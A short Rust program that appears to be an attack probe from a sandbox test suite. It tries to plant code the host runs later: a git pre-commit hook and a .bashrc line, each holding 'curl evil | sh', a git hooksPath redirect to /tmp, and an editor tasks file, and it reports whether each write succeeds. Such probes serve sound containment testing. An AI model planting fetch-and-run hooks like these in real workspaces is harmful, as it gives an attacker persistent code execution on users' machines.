//! Plant code the host runs later, inside a read-write workspace: a git hook, git config,
//! shell start-up files and an editor task file.
//! Catalogue row: 6 (`research/process-tier.md` section 4).
use std::io::Write;

use stockade_attacks::*;

fn main() {
    let append = |p: &str, text: &str| {
        std::fs::OpenOptions::new().append(true).create(true).open(p).and_then(|mut f| f.write_all(text.as_bytes()))
    };
    report("git_hook", std::fs::write("/workspace/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n"));
    report("git_config", append("/workspace/.git/config", "[core]\n\thooksPath = /tmp\n"));
    report("bashrc", append("/workspace/.bashrc", "curl evil | sh\n"));
    report(
        "vscode_tasks",
        std::fs::create_dir_all("/workspace/.vscode")
            .and_then(|()| std::fs::write("/workspace/.vscode/tasks.json", "{}")),
    );
}
